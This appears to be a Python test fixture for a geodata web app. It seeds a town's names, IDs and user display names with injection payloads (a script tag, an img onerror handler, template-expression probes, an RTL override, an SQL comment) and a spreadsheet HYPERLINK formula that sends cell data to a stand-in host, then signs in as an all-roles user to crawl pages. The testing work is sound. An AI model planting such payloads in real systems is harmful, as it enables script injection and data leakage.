"""A town whose names are hostile, and somebody who may do everything and walks its pages."""

import json

from crawling import read
from releasing import Publisher, town_run
from staffing import Office
from using import put_to_use

from app.site_documents import site_files
from geodata.db.engine import open_database
from geodata.releases.build import draft_release
from geodata.repositories.runs import save_run
from geodata.roles import ROLES

SCRIPT = "<script>hit()</script>"
MARK = f"{SCRIPT}\"><img src=x onerror=hit()>{{{{ 1234*9 }}}}${{1234*9}}`\u202e=1+1'--"
FORMULA = '=HYPERLINK("http://hostile.example/?"&A1)'  # what a spreadsheet would work out
COMPUTED = "11106"  # what a template or a script would make of 1234*9
STARTS = ("/analyst/", "/command/", "/admin/people", "/admin/audit", "/account")


def hostile_office(folder, url):
    """Make the town with a run and a draft, in an empty database."""
    database = open_database(url)
    town = Publisher(folder)
    told = MARK.replace("\\", "\\\\").replace('"', '\\"')
    town.change('name = "Town"', f'name = "{told}"')
    town.change('id = "code"', 'id = "code"\nname = "name"')
    town.change('[[factors]]\nname = "bars"', f'[[factors]]\nname = "{told}"')
    town.incidents["id"] = [f"{MARK}{i}" for i in range(len(town.incidents))]
    told = json.loads((folder / "districts.geojson").read_text())
    for feature, name in zip(told["features"], (MARK, FORMULA), strict=True):
        feature["properties"]["name"] = name
    (folder / "districts.geojson").write_text(json.dumps(told))
    town.bring(database)
    with database.session(write=True) as session:
        save_run(session, town_run())
    put_to_use(database, "a" * 12, why=MARK, who=MARK[:120])
    draft_release(database, folder / "releases", "town", MARK[:120], pages=site_files)
    database.close()
    made = Office(url, folder)
    made.add("ray", "viewer", display=MARK[:80])
    made.add("eve", *ROLES, districts=["town/D1"], display=MARK[:80])
    return made


class Reader:
    """Somebody who is signed in, and signs in again when a form ended that."""

    def __init__(self, office):
        self.office = office
        self._sign_in()

    def get(self, address, **options):
        answer = self.browser.get(address, buffered=True, **options)
        if self._is_out(answer):
            self._sign_in()
            answer = self.browser.get(address, buffered=True, **options)
        return answer

    def send(self, form, values):
        answer = self._post(form, values)
        if self._is_out(answer):
            self._sign_in()
            answer = self._post(form, values)
        return answer

    def _post(self, form, values):
        told = {**values, "csrf_token": self.token}
        return self.browser.post(form.action, told, buffered=True)

    def _sign_in(self):
        self.office.wait(minutes=2)
        self.browser = self.office.client("eve")
        (out,) = (
            form
            for form in read("/account", self.browser.get("/account").text).forms
            if form.action == "/logout"
        )
        self.token = out.fields["csrf_token"]

    @staticmethod
    def _is_out(answer):
        return answer.status_code == 303 and answer.headers["Location"].startswith("/login")
